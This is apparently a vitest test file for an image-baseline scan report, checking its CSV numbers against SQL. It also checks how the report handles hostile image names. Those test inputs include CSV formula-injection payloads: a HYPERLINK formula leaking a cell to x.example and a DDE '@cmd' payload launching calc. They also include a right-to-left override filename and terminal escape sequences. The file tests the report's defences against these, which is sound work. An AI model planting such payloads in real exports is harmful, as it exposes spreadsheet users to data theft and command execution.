/**
 * The report's numbers against direct SQL: the changes per kind (a kind without changes has 0
 * images), the daily series over every severity, the coverage states equal to hss.image_coverage
 * at T = now, the totals before the cut to the top N; and the CSV formula guard and control
 * escapes on hostile names, counted in the manifest.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHANGE_KINDS } from '../../src/report/findings.js';
import { COVERAGE_STATES } from '../../src/report/queries.js';
import { parseCsv } from '../helpers/csv.js';
import {
  HOSTILE_NAMES,
  makeHostileNames,
  newOutDir,
  type ReportWorld,
  runReport,
  startReportWorld,
} from '../helpers/report-world.js';

const records = (dir: string, name: string) => {
  const [header, ...rows] = parseCsv(readFileSync(join(dir, `${name}.csv`), 'utf8'));
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] as string])));
};
const manifestOf = (dir: string) => JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));

describe('report numbers', () => {
  let rw: ReportWorld;
  let asOf: string;

  beforeAll(async () => {
    rw = await startReportWorld({ imagesPerScope: 10 });
    asOf = rw.asOf.toISOString();
  });

  afterAll(async () => {
    await rw?.close();
  });

  it('changes per kind equal SQL row for row: a kind without changes has 0 results and 0 images', async () => {
    for (const days of ['90', '1']) {
      const dir = newOutDir();
      expect((await runReport(rw.w.t.url, ['--as-of', asOf, '--out', dir, '--days', days])).code).toBe(0);
      const want = await rw.w.t.pool.query<{ kind: string; results: string; images: string }>(
        `select k.kind, count(c.change)::text as results,
                count(distinct c.project_id || '|' || c.enterprise_project_id || '|' || c.image_type || '|' || c.image_id)::text as images
           from unnest($3::text[]) with ordinality k(kind, ord)
           left join hss.image_baseline_changes c
             on (c.change = k.kind or (k.kind = 'fixed' and c.fixed) or (k.kind = 'regressed' and c.regressed))
            and c.changed_at > $1::timestamptz - make_interval(days => $2::int) and c.changed_at <= $1::timestamptz
          group by k.kind, k.ord order by k.ord`,
        [asOf, Number(days), [...CHANGE_KINDS]],
      );
      expect(records(dir, 'changes'), `--days ${days}`).toEqual(want.rows);
      if (days === '1') expect(want.rows.some((r) => r.results === '0')).toBe(true);
    }
  });

  it('the CSVs name their total before the cut (manifest rows_total), equal to SQL', async () => {
    const dir = newOutDir();
    expect((await runReport(rw.w.t.url, ['--as-of', asOf, '--out', dir])).code).toBe(0);
    const files = new Map(
      manifestOf(dir).files.map((f: { name: string; rows?: number; rows_total?: number }) => [f.name, f]),
    );
    const images = await rw.w.t.pool.query<{ n: number }>(
      `select count(distinct (project_id, enterprise_project_id, image_type, image_id))::int as n
         from hss.image_baselines_as_of($1) where failed_rule_num > 0`,
      [asOf],
    );
    const rules = await rw.w.t.pool.query<{ n: number }>(
      `select count(distinct (check_name, check_type, standard, check_rule_id))::int as n
         from hss.image_baseline_rules_as_of($1) where scan_result = 'failed'`,
      [asOf],
    );
    const nImages = images.rows[0]!.n;
    expect(nImages).toBeGreaterThan(20);
    expect(files.get('worst-images.csv')).toMatchObject({ rows: 20, rows_total: nImages });
    expect(files.get('failing-rules.csv')).toMatchObject({
      rows: Math.min(100, rules.rows[0]!.n),
      rows_total: rules.rows[0]!.n,
    });
    expect(files.get('coverage.csv')).toMatchObject({ rows: 4, rows_total: 4 });
  });

  it('hostile names: formulas guarded in the CSV (counted in the manifest), controls shown, the page keeps the text', async () => {
    const first = newOutDir();
    expect((await runReport(rw.w.t.url, ['--as-of', asOf, '--out', first])).code).toBe(0);
    const ids = records(first, 'worst-images').map((r) => r.image_id as string);
    await makeHostileNames(rw.w, ids);
    const dir = newOutDir();
    const r = await runReport(rw.w.t.url, ['--as-of', asOf, '--out', dir]);
    expect(r.err).toBe('');
    const names = new Map(records(dir, 'worst-images').map((x) => [x.image_id, x.image_names]));
    expect(names.get(ids[0])).toBe(`'${HOSTILE_NAMES.formula}:v1`);
    expect(names.get(ids[1])).toBe(`'${HOSTILE_NAMES.at}:v1`);
    expect(names.get(ids[2])).toBe(`${HOSTILE_NAMES.long}:v1`);
    expect(names.get(ids[3])).toBe('\\u202eexe.txt\\u202c مرحبا:v1');
    expect(names.get(ids[4])).toBe('\\u001b[31mred\\u0007\\u0008:v1');
    const csv = readFileSync(join(dir, 'worst-images.csv'), 'utf8');
    expect(csv).not.toMatch(
      /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
    );
    const m = manifestOf(dir);
    expect(m.csv_formula_guard).toBe('prefix-apostrophe');
    for (const f of m.files.filter((x: { name: string }) => x.name.endsWith('.csv'))) {
      const cells = parseCsv(readFileSync(join(dir, f.name), 'utf8')).flat();
      expect(f.formula_guarded_cells, f.name).toBe(cells.filter((c) => c.startsWith("'")).length);
    }
    expect(m.files.find((x: { name: string }) => x.name === 'worst-images.csv').formula_guarded_cells).toBe(
      2,
    );
    // The page shows the original text (escaped as HTML), without the guard's quote.
    const page = readFileSync(join(dir, 'index.html'), 'utf8');
    expect(page).toContain(
      '<td>=HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;Fix&quot;):v1</td>',
    );
    expect(page).toContain('<td>@cmd|&#39; /C calc&#39;!A0:v1</td>');
    expect(page).toContain('<td>\\u001b[31mred\\u0007\\u0008:v1</td>');
    expect(page).not.toMatch(
      /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
    );
  });

  it('coverage at T = now has the states and counts of hss.image_coverage, per scope', async () => {
    const pool = rw.w.t.pool;
    // Put images into every state hss_internal.coverage_state knows.
    const ids = (
      await pool.query<{ image_id: string }>(
        `select image_id from hss.image_coverage where coverage = 'covered'
          order by enterprise_project_id, image_type, image_id limit 6`,
      )
    ).rows.map((r) => r.image_id);
    expect(ids).toHaveLength(6);
    await pool.query(`update hss_internal.image_refs set scan_status = 'failed' where image_id = $1`, [
      ids[0],
    ]);
    await pool.query(`update hss_internal.image_refs set scan_status = 'unscan' where image_id = $1`, [
      ids[1],
    ]);
    await pool.query(
      `update hss_internal.image_contents set fetched_scan_time = fetched_scan_time - interval '1 day' where image_id = $1`,
      [ids[2]],
    );
    await pool.query(`update hss_internal.image_contents set outcome = 'not_scanned' where image_id = $1`, [
      ids[3],
    ]);
    await pool.query(`update hss_internal.image_refs set unsafe_setting_num = 0 where image_id = $1`, [
      ids[4],
    ]);
    // Results gone with the content still fetched: no results (closing versions by hand breaks
    // the hash chain, so the report runs with --allow-broken).
    await pool.query(
      `update hss_internal.image_baseline_history set valid_to = now() where image_id = $1 and valid_to is null`,
      [ids[5]],
    );
    const now = (
      await pool.query<{ t: string }>(
        `select to_char(now() at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as t`,
      )
    ).rows[0]!.t;
    const dir = newOutDir();
    const r = await runReport(rw.w.t.url, ['--as-of', now, '--out', dir, '--allow-broken']);
    expect(r.code).toBe(0);
    const want = await pool.query<{ k: string; coverage: string; n: string }>(
      `select enterprise_project_id || '/' || image_type as k, coverage, count(*)::text as n
         from hss.image_coverage group by 1, 2`,
    );
    const seen = new Set(want.rows.map((x) => x.coverage));
    // The manipulations above reach every state.
    expect([...seen].sort()).toEqual([...COVERAGE_STATES].sort());
    for (const row of records(dir, 'coverage')) {
      const k = `${row.enterprise_project_id}/${row.image_type}`;
      let listed = 0;
      for (const st of COVERAGE_STATES) {
        const n = want.rows.find((x) => x.k === k && x.coverage === st)?.n ?? '0';
        expect(row[`images_${st}`], `${k} ${st}`).toBe(n);
        listed += Number(n);
      }
      expect(row.images_listed).toBe(String(listed));
    }
  });

  it('the daily series counts failed items of every severity (Security, and none), equal to a direct SQL sum', async () => {
    const pool = rw.w.t.pool;
    // Failing results of severity Security and of no severity (HSS answers can hold both). The
    // chain is broken by this, so the report runs with --allow-broken.
    const v = (
      await pool.query<{ version_id: string }>(
        `select version_id::text from hss_internal.image_baseline_history
          where valid_to is null and failed_rule_num > 0 order by version_id limit 2`,
      )
    ).rows.map((x) => x.version_id);
    await pool.query(
      `update hss_internal.image_baseline_history set severity = 'Security' where version_id = $1`,
      [v[0]],
    );
    await pool.query(`update hss_internal.image_baseline_history set severity = null where version_id = $1`, [
      v[1],
    ]);
    const dir = newOutDir();
    const r = await runReport(rw.w.t.url, ['--as-of', asOf, '--out', dir, '--allow-broken', '--days', '3']);
    expect(r.code).toBe(0);
    const rows = records(dir, 'daily-failed-items');
    const sql = await pool.query<{ day: string; sev: string; failed: string }>(
      `select to_char(d, 'YYYY-MM-DD') as day, coalesce(b.severity, '(none)') as sev, sum(b.failed_rule_num)::text as failed
         from unnest($1::date[]) d
         cross join lateral hss.image_baselines_as_of(((d + 1)::timestamp at time zone 'UTC')) b
        where b.failed_rule_num > 0 group by 1, 2`,
      [rows.map((x) => x.day)],
    );
    const get = (day: string, sev: string) =>
      sql.rows.find((x) => x.day === day && x.sev === sev)?.failed ?? '0';
    const last = rows.at(-1)!;
    expect(Number(get(last.day as string, 'Security'))).toBeGreaterThan(0);
    expect(Number(get(last.day as string, '(none)'))).toBeGreaterThan(0);
    for (const row of rows) {
      const day = row.day as string;
      expect(row.security, day).toBe(get(day, 'Security'));
      expect(row.other, day).toBe(get(day, '(none)'));
      const total = sql.rows.filter((x) => x.day === day).reduce((a, x) => a + Number(x.failed), 0);
      expect(row.total, day).toBe(String(total));
    }
    expect(manifestOf(dir).verify.intact).toBe(false);
  });
});
